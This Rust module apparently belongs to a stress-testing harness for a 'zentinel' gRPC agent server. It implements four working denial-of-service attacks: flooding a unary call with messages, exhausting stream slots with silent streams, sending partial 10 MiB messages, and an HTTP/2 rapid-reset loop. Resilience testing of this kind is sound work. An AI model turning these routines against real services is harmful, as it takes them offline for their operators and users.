//! The attacks on the server over gRPC, stream by stream.

use crate::common::addresses::Address;
use crate::connections::{connect_tcp, repeat};
use crate::payloads::MIB;
use crate::places::Places;
use crate::tally::count_sent;
use bytes::Bytes;
use h2::client::{Builder, ResponseFuture, SendRequest};
use h2::{Reason, SendStream};
use http::Request;
use std::future::{pending, poll_fn};
use std::io;

const PROCESS_STREAM: &str = "/zentinel.agent.v2.AgentServiceV2/ProcessStream";
const PROCESS_EVENT: &str = "/zentinel.agent.v2.AgentServiceV2/ProcessEvent";

/// Handshake as a proxy on `zentinel-agent-protocol` sends it, behind its flag and length.
const HANDSHAKE: &[u8] = b"\0\0\0\0\x12\x0a\x10\x0a\x01\x02\x12\x08attacker\x1a\x01\x30";

/// Number of messages of a call that expects one.
const ENDLESS: usize = 20_000;

/// Sends message after message where one is expected.
pub(crate) async fn endless_calls(places: &Places) {
    let message = framed(vec![0; 60_000], 60_000);
    repeat(8, async |_| {
        let mut requests = connect(places).await?;
        let (_response, mut sending) = open(&mut requests, PROCESS_EVENT).await?;
        for _ in 0..ENDLESS {
            send_all(&mut sending, message.clone()).await?;
        }
        Ok(())
    })
    .await;
}

/// Opens more streams than the server has places, and says nothing after the handshake.
pub(crate) async fn silent_streams(places: &Places) {
    repeat(10, async |_| {
        let requests = connect(places).await?;
        let opened = (0..1_100).map(|_| {
            let mut requests = requests.clone();
            async move {
                let (response, mut sending) = open(&mut requests, PROCESS_STREAM).await?;
                send_all(&mut sending, Bytes::from_static(HANDSHAKE)).await?;
                wait_for_end(response).await
            }
        });
        futures_util::future::try_join_all(opened).await.map(|_| ())
    })
    .await;
}

/// Sends nearly all of a message of 10 MiB on each of many streams.
pub(crate) async fn half_messages(places: &Places) {
    let half = framed(vec![0; 10 * MIB - 1], 10 * MIB);
    repeat(10, async |_| {
        let requests = connect(places).await?;
        let opened = (0..100).map(|_| {
            let mut requests = requests.clone();
            let half = half.clone();
            async move {
                let (response, mut sending) = open(&mut requests, PROCESS_STREAM).await?;
                send_all(&mut sending, Bytes::from_static(HANDSHAKE)).await?;
                send_all(&mut sending, half).await?;
                wait_for_end(response).await
            }
        });
        futures_util::future::try_join_all(opened).await.map(|_| ())
    })
    .await;
}

/// Opens streams and resets them at once, half of them after the handshake.
pub(crate) async fn resets(places: &Places) {
    repeat(4, async |_| {
        let mut requests = connect(places).await?;
        for number in 0_usize.. {
            let (_response, mut sending) = open(&mut requests, PROCESS_STREAM).await?;
            if number.is_multiple_of(2) {
                let handshake = Bytes::from_static(HANDSHAKE);
                sending.send_data(handshake, false).map_err(other)?;
            }
            sending.send_reset(Reason::CANCEL);
            count_sent(1, 0);
            // Lets the connection send.
            tokio::task::yield_now().await;
        }
        Ok(())
    })
    .await;
}

async fn connect(places: &Places) -> io::Result<SendRequest<Bytes>> {
    let [_, _, Address::Tcp(address)] = &places.server else {
        return Err(io::Error::other("the server has no port for gRPC"));
    };
    let stream = connect_tcp(*address).await?;
    let (requests, connection) = Builder::new().handshake(stream).await.map_err(other)?;
    tokio::spawn(connection);
    Ok(requests)
}

async fn open(
    requests: &mut SendRequest<Bytes>,
    path: &str,
) -> io::Result<(ResponseFuture, SendStream<Bytes>)> {
    let request = Request::post(format!("http://localhost{path}"))
        .header("te", "trailers")
        .header("content-type", "application/grpc")
        .body(())
        .map_err(io::Error::other)?;
    let ready = poll_fn(|context| requests.poll_ready(context));
    ready.await.map_err(other)?;
    requests.send_request(request, false).map_err(other)
}

/// Sends a message as the other side makes room for it.
async fn send_all(sending: &mut SendStream<Bytes>, mut message: Bytes) -> io::Result<()> {
    while !message.is_empty() {
        sending.reserve_capacity(message.len().min(64 * 1024));
        let room = poll_fn(|context| sending.poll_capacity(context)).await;
        let room = room.ok_or(io::ErrorKind::BrokenPipe)?.map_err(other)?;
        let part = message.split_to(room.min(message.len()));
        count_sent(0, part.len());
        sending.send_data(part, false).map_err(other)?;
    }
    count_sent(1, 0);
    Ok(())
}

/// Waits until the other side ends the stream before it responds. One that it has responded to
/// stays open.
async fn wait_for_end(response: ResponseFuture) -> io::Result<()> {
    let _response = response.await.map_err(other)?;
    pending().await
}

/// Returns content behind its flag and the given length.
fn framed(content: Vec<u8>, len: usize) -> Bytes {
    let len = u32::try_from(len).expect("messages are short");
    [&[0], &len.to_be_bytes()[..], &content].concat().into()
}

fn other(error: h2::Error) -> io::Error {
    io::Error::other(error)
}
